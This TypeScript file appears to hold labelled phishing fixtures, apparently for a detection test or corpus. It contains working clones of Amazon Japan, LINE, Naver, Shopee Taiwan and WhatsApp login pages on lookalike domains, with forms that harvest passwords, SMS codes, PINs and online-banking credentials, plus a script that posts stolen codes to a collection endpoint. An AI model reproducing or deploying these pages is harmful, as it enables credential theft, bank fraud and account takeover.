import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc } from '../parts/ze-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
  id: 'ze-phish-jp-amazon-account-suspended',
  label: 'phishing',
  kind: 'marketplace-kit',
  url: 'https://amazon-co-jp.account-update.shop/ap/signin?openid=jp',
  routes: {
    'amazon-co-jp.account-update.shop/ap/signin': htmlRoute(doc({
      lang: 'ja',
      title: 'Amazonサインイン',
      css: '.c{max-width:350px;margin:20px auto;border:1px solid #ddd;border-radius:8px;padding:20px}.y{background:#ffd814;width:100%;border-radius:8px;margin-top:12px}.lg{text-align:center;font-size:28px;font-weight:bold}',
      body: `<div class="lg">amazon<span style="font-size:14px">.co.jp</span></div>
<div class="c"><h2 style="font-weight:400">ログイン</h2><p style="font-size:13px;color:#c40000">お客様のアカウントは一時的に保留されています。お支払い方法の更新が確認できない場合、アカウントは閉鎖されます。</p>
<form method="post" action="/ap/verify"><label><b>Eメールまたは携帯電話番号</b></label><input name="email"><label><b>パスワード</b></label><input name="password" type="password"><button class="y">ログイン</button></form>
<p style="font-size:12px">続行することで、Amazonの<a href="#">利用規約</a>および<a href="#">プライバシー規約</a>に同意するものとします。</p></div>
<p style="text-align:center;font-size:11px">© 1996-2025, Amazon.com, Inc. またはその関連会社</p>`,
    })),
  },
},
  {
  id: 'ze-phish-jp-line-account-pin-steal',
  label: 'phishing',
  kind: 'messaging-kit',
  url: 'https://line-me.auth-jp.top/login',
  body: doc({
    lang: 'ja',
    title: 'LINE - 本人確認',
    css: 'body{background:#f2f3f5}.c{max-width:380px;margin:50px auto;background:#fff;padding:28px;text-align:center;border-radius:8px}.g{background:#06c755;color:#fff;width:100%;margin-top:14px}',
    body: `<div class="c"><h1 style="color:#06c755">LINE</h1><p>セキュリティ強化のため、本人確認が必要です。確認されない場合、アカウントが凍結される可能性があります。</p>
<form id="f" method="post" action="/login/pin"><input name="phone" placeholder="電話番号（例：09012345678）"><br><br><input name="pw" type="password" placeholder="パスワード"><br><br><input name="code" placeholder="SMSに届いた認証番号（6桁）" maxlength="6"><br><br><input name="pincode" placeholder="PINコード（6桁）" maxlength="6"><button class="g">確認</button></form>
<p style="font-size:11px;color:#999">© LY Corporation</p></div>`,
  }),
},
  {
  id: 'ze-phish-kr-naver-mail-storage-full',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://nid-naver.mail-storage.kr.in/nidlogin.login',
  body: doc({
    lang: 'ko',
    title: '네이버 : 로그인',
    css: '.c{max-width:460px;margin:50px auto}.n{color:#03c75a;font-size:40px;font-weight:900;text-align:center}.g{background:#03c75a;color:#fff;width:100%;margin-top:14px;font-size:18px}',
    body: `<div class="n">NAVER</div><div class="c"><p style="background:#fff4e5;padding:10px;font-size:13px">메일함 용량이 99% 사용되었습니다. 로그인 후 저장공간을 무료로 확장하세요. 미확장 시 새 메일 수신이 중단됩니다.</p>
<form method="post" action="/nidlogin.proc"><input name="id" placeholder="아이디 또는 전화번호"><br><br><input name="pw" type="password" placeholder="비밀번호"><button class="g">로그인</button></form>
<p style="font-size:12px;text-align:center">비밀번호 찾기 | 아이디 찾기 | 회원가입</p></div>`,
  }),
},
  {
  id: 'ze-phish-tw-shopee-seller-escrow',
  label: 'phishing',
  kind: 'marketplace-kit',
  url: 'https://shopee-tw.seller-escrow.cfd/verify?order=240911KQ3',
  routes: {
    'shopee-tw.seller-escrow.cfd/verify': htmlRoute(doc({
      lang: 'zh-TW',
      title: '蝦皮購物 - 賣家金流認證',
      css: '.t{background:#ee4d2d;color:#fff;padding:14px 0}.c{max-width:520px;margin:20px auto}.b{background:#ee4d2d;color:#fff;width:100%}',
      body: `<div class="t"><div class="wrap">Shopee 蝦皮購物 | 賣家中心</div></div><div class="c">
<h3>買家已付款，但您的賣場尚未完成「金流服務認證」</h3><p>訂單編號 240911KQ3 款項 NT$ 3,280 已凍結。請完成三大保障協議簽署及銀行帳戶驗證，系統將自動解凍款項。如有問題請聯繫線上客服 LINE ID: @shopee-tw-svc</p>
<form method="post" action="/verify/bank"><label>真實姓名</label><input name="n"><label>銀行代碼</label><input name="bc"><label>帳號</label><input name="acct"><label>網路銀行使用者代號</label><input name="ib"><label>網路銀行密碼</label><input name="ibp" type="password"><label>金融卡餘額</label><input name="bal"><button class="b">送出認證</button></form></div>`,
    })),
  },
},
  {
  id: 'ze-phish-in-whatsapp-gift-shortlink',
  label: 'phishing',
  kind: 'messaging-kit',
  url: 'https://wa-gift.in/r/diwali25',
  routes: {
    'wa-gift.in/r/diwali25': redirectRoute(302, 'https://whatsapp-verify.diwali-offer.live/verify/'),
    'whatsapp-verify.diwali-offer.live/verify/': htmlRoute(doc({
      lang: 'en-IN',
      title: 'WhatsApp - Verify your number',
      css: 'body{background:#e5ddd5}.c{max-width:400px;margin:30px auto;background:#fff;padding:24px;border-radius:8px;text-align:center}.g{background:#25d366;color:#fff;width:100%;margin-top:12px}',
      body: `<div class="c"><h2 style="color:#075e54">WhatsApp</h2><p>To receive your Diwali gift of ₹5,000 from Tata, please verify your WhatsApp number. Enter the 6-digit code we sent by SMS.</p>
<input id="ph" value="+91 "><br><br><input id="cd" placeholder="— — —  — — —" maxlength="6"><button class="g" id="b">Verify</button><p id="r" style="font-size:12px"></p></div>
<script src="/verify/w.js"></script>`,
    })),
    'whatsapp-verify.diwali-offer.live/verify/w.js': jsRoute(`document.getElementById('b').onclick=function(){var x=new XMLHttpRequest();x.open('POST','/verify/c.php');x.send('ph='+encodeURIComponent(ph.value)+'&cd='+cd.value);document.getElementById('r').textContent='Verifying… Share this offer with 10 friends or groups to unlock your reward.'}`),
  },
},
];
